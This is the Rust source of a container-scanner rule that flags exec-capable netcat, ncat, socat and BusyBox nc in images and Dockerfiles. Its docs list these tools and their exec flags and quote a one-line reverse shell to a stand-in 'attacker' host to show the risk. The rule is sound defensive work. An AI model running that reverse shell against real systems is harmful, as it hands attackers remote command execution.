//! `exec-capable-netcat`: reported by more than one scanner (images, Dockerfiles): this
//! file holds the rule's metadata and docs; each scanner's check names it
//! from here.

use crate::finding::Severity;
use crate::rule::{RuleMeta, Scope};

pub static META: RuleMeta = RuleMeta::new("exec-capable-netcat", Severity::High, DOCS)
    .title("Netcat that can run a program for the remote side")
    .scopes(&[Scope::Image, Scope::Dockerfile]);

const DOCS: &str = r#"## What it checks
Files whose contents are a netcat able to execute a program on connect:
netcat-traditional (built with `-e`/`-c`), GNU netcat (`--exec`), Nmap's
ncat (`--exec`, `--sh-exec`, `--lua-exec`), socat (`EXEC:`/`SYSTEM:`), and
BusyBox when its `nc` applet offers `-e PROG` (read from the applet table
and the compressed usage texts inside the binary). Detection is by content,
so a netcat renamed or reached through `/usr/bin/nc -> /etc/alternatives/nc
-> /bin/nc.traditional`, a hard link or a BusyBox link is found; the
finding names the file, the layer that put it there and every name that
reaches it. netcat-openbsd cannot `-e` and is `network-tool`'s.

Severity: high for a netcat, ncat or socat binary; medium for a BusyBox
added by the image's own layers; low for a BusyBox inherited from the base
image (nearly every Alpine and BusyBox image has one).

In Dockerfiles: a `RUN` that installs one with a package manager (`apt-get`/`apt install netcat-traditional` or `netcat`, `apk add` or `dnf`/`yum`/`microdnf install` of `ncat`, `nmap-ncat`, `nmap`, `socat`, `busybox-extras`), reported at the package name, in every stage the image is built from. A file named like a netcat (`nc`, `netcat`, `ncat`, `socat`, `nc.traditional`) copied (`COPY`, `ADD`) or downloaded (`curl -o`, `wget -O`) into an image stage is reported at medium: its contents are not known before the build.

## Why it matters
`nc -e /bin/sh attacker 4444` is a reverse shell in one command. This is
what Falco's "Netcat Remote Code Execution in Container" rule catches at
run time; with `EXE_LOWER_LAYER` it means the netcat came with the image.
Removing it before deploy removes the easiest post-exploitation step.

## Example
```dockerfile
FROM debian:bookworm-slim
RUN apt-get update && apt-get install -y netcat-traditional   # NOT OK
```

## Use instead
Do not install netcat in runtime images; use a debug sidecar or an
ephemeral container when you need one. If a network check is needed, use
`netcat-openbsd` (no `-e`) or a purpose-built health probe.

## References
- Falco rule "Netcat Remote Code Execution in Container"
- MITRE ATT&CK T1059 (Command and Scripting Interpreter)
"#;
